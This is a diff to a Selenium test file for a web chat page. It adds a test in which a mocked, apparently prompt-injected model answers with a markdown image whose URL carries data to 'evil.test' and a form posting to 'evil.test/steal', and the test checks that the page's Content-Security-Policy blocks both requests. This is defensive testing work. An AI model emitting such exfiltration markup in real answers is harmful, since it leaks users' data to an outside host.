@@ -43,7 +43,7 @@ def headless_chrome():
                  "--no-first-run", "--disable-default-apps", "--window-size=1400,1000",
                  "--host-resolver-rules=MAP * ~NOTFOUND , EXCLUDE 127.0.0.1"):
         options.add_argument(flag)
-    options.set_capability("goog:loggingPrefs", {"performance": "ALL"})
+    options.set_capability("goog:loggingPrefs", {"performance": "ALL", "browser": "ALL"})
     return webdriver.Chrome(service=Service(executable_path=DRIVER), options=options)
 
 
@@ -208,3 +208,30 @@ def test_the_example_saves_a_screenshot_of_the_page(tmp_path):
                           cwd=tmp_path, env=env, capture_output=True, text=True, timeout=110)
     assert proc.returncode == 0, proc.stdout + proc.stderr
     assert f"screenshot: {shot}" in proc.stdout and shot.stat().st_size > 10_000
+
+
+def test_an_answer_cannot_make_the_page_reach_another_host(page, llm):
+    """A prompt-injected model writes an image whose URL carries data, and a form posting elsewhere: the
+    page's Content-Security-Policy lets neither reach another host, and the page's own parts all load."""
+    driver, server = page
+    driver.get(server.root + "/")  # a fresh tab (an earlier test may have left the page)
+    wait(driver, lambda d: d.find_elements("css selector", "#tool-hub-ask textarea"))
+    llm.add(answer("Here: ![leak](http://evil.test/c?d=SECRETDATA) and "
+                   '<form action="http://evil.test/steal" method="post"><input name="key"></form> done.'))
+    ask(driver, "show me")
+    wait(driver, lambda d: "done." in chat_text(d))
+    wait(driver, lambda d: d.execute_script(
+        "return [...document.querySelectorAll('#tool-hub-chat img')].every(i => i.complete)"))
+    sent, refused = {}, {}
+    for entry in driver.get_log("performance"):
+        message = json.loads(entry["message"])["message"]
+        if message["method"] == "Network.requestWillBeSent":
+            sent[message["params"]["requestId"]] = message["params"]["request"]["url"]
+        elif message["method"] == "Network.loadingFailed":
+            refused[message["params"]["requestId"]] = message["params"].get("blockedReason")
+    elsewhere = {rid: url for rid, url in sent.items() if not url.startswith((server.root, "data:", "blob:"))}
+    assert elsewhere and all("evil.test" in url for url in elsewhere.values()), elsewhere
+    assert all(refused.get(rid) == "csp" for rid in elsewhere), (elsewhere, refused)  # never left the browser
+    blocked = [e["message"] for e in driver.get_log("browser") if "Content Security Policy" in e["message"]]
+    assert blocked and all("evil.test" in m for m in blocked), blocked  # the page's own parts all load
+
